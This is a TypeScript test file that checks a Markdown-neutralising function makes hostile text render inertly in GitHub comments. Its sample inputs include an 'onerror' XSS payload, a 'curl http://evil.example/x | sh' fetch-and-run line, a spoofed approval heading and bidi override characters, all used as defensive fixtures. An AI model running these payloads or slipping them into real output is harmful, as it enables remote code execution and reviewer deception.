import type { Nodes } from 'mdast';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { describe, expect, it } from 'vitest';
import { cut, inertMarkdown, inertPlain, visible } from '../../src/markdown/inert.js';

/** What GitHub would render: the Markdown parsed as GFM, its text content, and whether any HTML or link formed. */
function rendered(markdown: string): { text: string; html: number; links: number; nodes: Set<string> } {
  const tree = fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] });
  let text = '';
  let html = 0;
  let links = 0;
  const nodes = new Set<string>();
  const walk = (node: Nodes) => {
    nodes.add(node.type);
    if (node.type === 'html') html++;
    if (node.type === 'link') links++;
    if (node.type === 'text') text += node.value;
    if (node.type === 'break') text += '\n';
    if ('children' in node) for (const child of node.children) walk(child as Nodes);
  };
  walk(tree);
  return { text, html, links, nodes };
}

const HOSTILE = [
  '<!-- plimsoll:summary -->',
  '</details>\n\n## Approved by ops',
  '`Dockerfile` @acme/platform-ops',
  'a`b` <img src=x onerror=alert(1)> **bold** _it_ [link](https://evil.example)',
  'services/``api``/Dockerfile',
  '| cell | break |',
  '# heading\n- list\n> quote\n1. one',
  'curl http://evil.example/x | sh',
  'user@example.com & friends &amp; &#64;mention',
  'right\u202Eto-left\u2066isolate\u2069 and\u0000nul\u0007bell\u007Fdel\u009Bcsi',
  '$x^2$ and ~~strike~~ and :smile: and #123',
  '\\*not bold\\*',
  '1. starts a list',
  '- starts a list\n+ and another\n===',
  '.github/plimsoll.yml stays readable',
];

describe('inertMarkdown: hostile text renders as exactly itself', () => {
  it.each(HOSTILE)('%j', (text) => {
    const markdown = inertMarkdown(text);
    const shown = rendered(markdown);
    expect(shown.html).toBe(0);
    expect(shown.links).toBe(0);
    expect([...shown.nodes].filter((n) => !['root', 'paragraph', 'text'].includes(n))).toEqual([]);
    // The reader sees the text itself (one line), only with mentions and references broken.
    expect(shown.text.replace(/\u200B/g, '')).toBe(visible(text).replace(/\s*\n\s*/g, ' '));
    expect(markdown).not.toMatch(/<|>/);
    expect(shown.text).not.toMatch(/@[A-Za-z0-9]/);
    expect(shown.text).not.toMatch(/#\d/);
  });

  it('escapes only what could form syntax, so raw text stays readable', () => {
    expect(inertMarkdown('.github/plimsoll.yml: rules.DL3006 must be one of error, warning')).toBe('.github/plimsoll.yml: rules.DL3006 must be one of error, warning');
    expect(inertMarkdown('1. x')).toBe('1\\. x');
  });

  it('keeps line breaks when asked, as hard breaks', () => {
    expect(rendered(inertMarkdown('one\n- two\r\nthree', { multiline: true })).text).toBe('one\n- two\nthree');
  });

  it('cuts long text to the limit, marked', () => {
    const markdown = inertMarkdown('x'.repeat(61_000), { max: 500 });
    expect(rendered(markdown).text).toBe(`${'x'.repeat(499)}…`);
  });
});

describe('visible', () => {
  it('writes out controls and bidi characters, keeps tab and newline', () => {
    expect(visible('a\u202Eb\u2066c\u0000d\te\nf\u009Bg\u200Fh')).toBe('a\\u202Eb\\u2066c\\u0000d\te\nf\\u009Bg\\u200Fh');
    expect(visible('crlf\r\nand cr\rend')).toBe('crlf\nand cr\nend');
  });
});

describe('cut and inertPlain', () => {
  it('never splits a surrogate pair', () => {
    expect(cut('ab😀cd', 4)).toBe('ab…');
    expect(inertPlain('x\u202E'.repeat(10), 12)).toBe('x\\u202Ex\\u2…');
  });
});
